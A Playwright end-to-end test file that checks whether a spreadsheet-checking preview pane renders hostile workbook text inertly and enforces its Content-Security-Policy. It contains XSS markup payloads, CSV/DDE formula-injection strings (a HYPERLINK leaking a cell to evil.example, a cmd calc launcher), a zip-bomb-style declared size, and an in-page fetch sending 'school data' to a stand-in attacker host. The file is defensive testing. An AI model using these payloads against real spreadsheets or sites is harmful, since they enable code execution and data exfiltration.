/**
 * Hostile input in the browser: the built preview (dist/) in headless Chromium, on the
 * in-memory Excel host. A workbook whose cells hold markup («<img onerror>», «<script>») and
 * formula-looking text («=HYPERLINK(…)», «+…», «@…») is checked in the pane: the text is shown
 * as the characters typed, nothing runs, and the report sheet holds strings, not formulas.
 * Every request is watched (none may leave the page's origin), and the Content-Security-Policy
 * is shown to be enforced. Broken files opened in the preview get the same message, per code,
 * as the command line prints.
 */
import { mkdtempSync, writeFileSync } from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as XLSX from '@e965/xlsx';
import type { Page } from 'playwright-core';
import { READ_ERROR_MESSAGES, type ReadErrorCode } from '../../src/workbook/read-errors';
import { patchXlsxPart } from '../support/xlsx-patch';
import { craftZip, roadmapXlsx, xlsxParts } from '../support/zip-craft';
import { e2eSuite, SHOTS, until } from './harness';

const TMP = mkdtempSync(path.join(os.tmpdir(), 'rc-hostile-e2e-'));

const SHEET = '=<i>План';
const MARKUP = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '<a href="javascript:window.__pwned=3">ссылка</a>',
  '<img src="https://evil.example/leak.png">',
];
const FORMULAS = ['=HYPERLINK("https://evil.example/?q="&A1,"Подробнее")', "=cmd|' /C calc'!A0", '+7 (912) 000-00-00', '@SUM(1+1)'];
const HOSTILE = [...MARKUP, ...FORMULAS];

/** A roadmap whose deadlines are the hostile texts (each one a deadline-vague finding with the text as its value). */
function hostileWorkbook(): string {
  const rows: unknown[][] = [
    ['План мероприятий на 2023-2024 годы'],
    [],
    ['№ п/п', 'Наименование мероприятия', 'Срок исполнения', 'Ответственный', 'Ожидаемый результат'],
    ...HOSTILE.map((text, i) => [i + 1, `Мероприятие ${i + 1} ${text}`, text, 'Управление образования', text]),
  ];
  const file = path.join(TMP, 'hostile.xlsx');
  writeFileSync(file, roadmapXlsx(rows, SHEET));
  return file;
}

function brokenFiles(): Array<[ReadErrorCode, string]> {
  const cfb = XLSX.CFB.utils.cfb_new();
  XLSX.CFB.utils.cfb_add(cfb, 'EncryptionInfo', new Uint8Array(200).fill(4));
  XLSX.CFB.utils.cfb_add(cfb, 'EncryptedPackage', new Uint8Array(9000).fill(7));
  const files: Array<[ReadErrorCode, string, Uint8Array | string]> = [
    ['file-encrypted', 'locked.xlsx', new Uint8Array(XLSX.CFB.write(cfb, { type: 'array' }) as ArrayBuffer)],
    ['file-not-workbook', 'letter.xlsx', 'Добрый день! Дорожная карта во вложении.'],
    ['file-corrupt', 'cut.xlsx', roadmapXlsx().slice(0, 900)],
    ['file-too-large', 'bomb.xlsx', craftZip(xlsxParts(roadmapXlsx()).map((p) => (p.name.endsWith('sheet1.xml') ? { ...p, declaredSize: 4 * 1024 ** 3 - 16 } : p)))],
    ['file-empty', 'empty.xlsx', ''],
  ];
  return files.map(([code, name, bytes]) => {
    const file = path.join(TMP, name);
    writeFileSync(file, bytes);
    return [code, file];
  });
}

const suite = e2eSuite();

interface Watched {
  page: Page;
  /** Every request the page made. */
  requests: string[];
  failed: Map<string, string>;
  /** Requests that would have left the page's origin, refused by the route. */
  blocked: string[];
}

/** The preview with every request seen — the page's origin goes on, anything else is refused and listed — and CSP violations recorded. */
async function watchedPreview(file?: string): Promise<Watched> {
  const requests: string[] = [];
  const failed = new Map<string, string>();
  const blocked: string[] = [];
  const { page } = await suite.open({
    file,
    setup: async (context, p) => {
      const origin = new URL(suite.server.url).origin;
      await context.route('**/*', (route) => {
        const url = new URL(route.request().url());
        if (url.origin === origin) return route.continue();
        blocked.push(url.href);
        return route.abort('blockedbyclient');
      });
      await context.addInitScript(() => {
        (window as unknown as { __csp: string[] }).__csp = [];
        document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { __csp: string[] }).__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));
      });
      p.on('request', (request) => requests.push(request.url()));
      p.on('requestfailed', (request) => failed.set(request.url(), request.failure()?.errorText ?? ''));
    },
  });
  return { page, requests, failed, blocked };
}

async function pwned(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
}

async function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
}

async function checked(page: Page): Promise<void> {
  await page.locator(`[data-testid="sheet-view"][data-sheet="${SHEET}"]`).waitFor();
  await page.getByTestId('check-sheet').click();
  await page.getByTestId('summary').waitFor();
}

describe('hostile text in the pane', () => {
  it('is shown as the characters typed, runs nothing and fetches nothing', async () => {
    const { page, requests } = await watchedPreview(hostileWorkbook());
    await checked(page);

    // Each hostile deadline is a finding whose value the list shows literally.
    const shown = await page.getByTestId('finding').evaluateAll((els) => els.map((e) => e.textContent ?? ''));
    for (const text of HOSTILE) expect(shown.some((s) => s.includes(text))).toBe(true);
    for (const text of MARKUP) await expect(page.getByTestId('finding-list').getByText(text, { exact: true }).first().isVisible()).resolves.toBe(true);
    // The preview's sheet shows the cells as text too.
    const cellText = await page.locator(`[data-testid="sheet-view"] td[data-cell="C4"]`).innerText();
    expect(cellText).toBe(MARKUP[0]);

    // Nothing ran: no flag set, no element made from the text, no request for its URLs.
    expect(await pwned(page)).toBeUndefined();
    expect(await page.locator('img[src="x"], img[src*="evil"], a[href^="javascript:"]').count()).toBe(0);
    expect(await page.locator('script:not([src])').count()).toBe(0);
    expect(requests.filter((u) => /evil\.example|\/x$/.test(u))).toEqual([]);
    await page.screenshot({ path: path.join(SHOTS, 'hostile-01-checked.png') });
  });

  it('writes the report sheet with strings, not formulas', async () => {
    const { page } = await watchedPreview(hostileWorkbook());
    await checked(page);
    await page.getByTestId('write-report').click();
    await page.getByTestId('notice').waitFor();
    const report = () =>
      page.evaluate(() => {
        const h = (window as unknown as { __memoryHost: { snapshot(): Record<string, { cells: Record<string, { value: unknown; formula?: string; format?: string }> }> } }).__memoryHost;
        return h.snapshot()['Замечания']?.cells ?? null;
      });
    await until(report, (cells) => expect(cells).not.toBeNull());
    const cells = (await report())!;
    expect(Object.entries(cells).filter(([, c]) => c.formula !== undefined)).toEqual([]);
    const values = Object.entries(cells).filter(([address]) => /^G\d+$/.test(address) && address !== 'G1'); // «Значение»
    for (const text of HOSTILE) {
      const found = values.filter(([, c]) => c.value === text);
      expect(found.length).toBeGreaterThan(0);
      for (const [, c] of found) expect(c.format).toBe('@');
    }
    expect(cells.B2).toMatchObject({ value: SHEET, format: '@' });
    // The report tab renders the same text, still inert.
    await page.locator('[data-testid="sheet-tab"]', { hasText: 'Замечания' }).click();
    await page.locator('[data-testid="sheet-view"][data-sheet="Замечания"]').waitFor();
    expect(await pwned(page)).toBeUndefined();
  });
});

describe('no network beyond the page\'s origin, under an enforced Content-Security-Policy', () => {
  it('made every request to its own origin, and none was refused', async () => {
    const { page, requests, blocked } = await watchedPreview(hostileWorkbook());
    await checked(page);
    await page.getByTestId('write-report').click();
    await page.getByTestId('notice').waitFor();
    const origin = new URL(suite.server.url);
    expect(requests.length).toBeGreaterThan(0);
    expect(requests.filter((u) => !u.startsWith(origin.origin) && !u.startsWith('data:') && !u.startsWith('blob:'))).toEqual([]);
    expect(blocked).toEqual([]);
  });

  it('the policy stops what injected markup would try: inline script, foreign image, foreign fetch', async () => {
    const { page, requests, failed, blocked } = await watchedPreview();
    const before = requests.length;
    const result = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = "inline"';
      document.body.append(script);
      const img = new Image();
      img.src = 'https://evil.example/beacon.png';
      document.body.append(img);
      let fetched: string;
      try {
        await fetch('https://evil.example/collect', { method: 'POST', body: 'school data' });
        fetched = 'yes';
      } catch {
        fetched = 'refused';
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { fetched, pwned: (window as unknown as { __pwned?: unknown }).__pwned };
    });
    expect(result).toEqual({ fetched: 'refused', pwned: undefined });
    const seen = await violations(page);
    expect(seen).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src-elem inline$/), expect.stringMatching(/^img-src https:\/\/evil\.example\/beacon\.png/), expect.stringMatching(/^connect-src https:\/\/evil\.example\/collect/)]));
    // Refused by the page's own policy in the browser: nothing reached the network (the route
    // above, which sees every request that would leave, saw none).
    for (const url of requests.slice(before).filter((u) => u.includes('evil.example'))) expect(failed.get(url)).toMatch(/csp/i);
    expect(blocked).toEqual([]);
  });
});

describe('a sheet whose used range reaches the last cell of the grid', () => {
  it('opens, and checking it gives a message instead of hanging', async () => {
    // A roadmap with one stray value at XFD1048576, edited into the sheet's XML.
    const file = path.join(TMP, 'stray.xlsx');
    writeFileSync(
      file,
      patchXlsxPart(roadmapXlsx(), 'xl/worksheets/sheet1.xml', (xml) =>
        xml
          .replace(/<dimension ref="[^"]+"\/>/, '<dimension ref="A1:XFD1048576"/>')
          .replace('</sheetData>', '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'),
      ),
    );
    const { page } = await suite.open({ file });
    await page.locator('[data-testid="sheet-view"][data-sheet="План"]').waitFor();
    await page.getByTestId('check-sheet').click();
    // It answers, within the wait: a message, not a hang.
    const error = page.getByTestId('error');
    await error.waitFor({ timeout: 10_000 });
    await expect(error.innerText()).resolves.toContain('Лист «План» слишком велик для проверки: его используемый диапазон A1:XFD1048576');
    // The pane stays usable: the check button is enabled again.
    await expect(page.getByTestId('check-sheet').isEnabled()).resolves.toBe(true);
  });
});

describe('broken files opened in the preview', () => {
  it.each(brokenFiles())('%s: the message the command line prints for that code', async (code, file) => {
    const { page } = await suite.open();
    await page.getByTestId('file-input').setInputFiles(file);
    const alert = page.getByTestId('preview-error');
    await until(() => alert.innerText().catch(() => ''), (text) => expect(text).toBe(`Не удалось открыть книгу: ${READ_ERROR_MESSAGES[code].ru}`));
  });
});
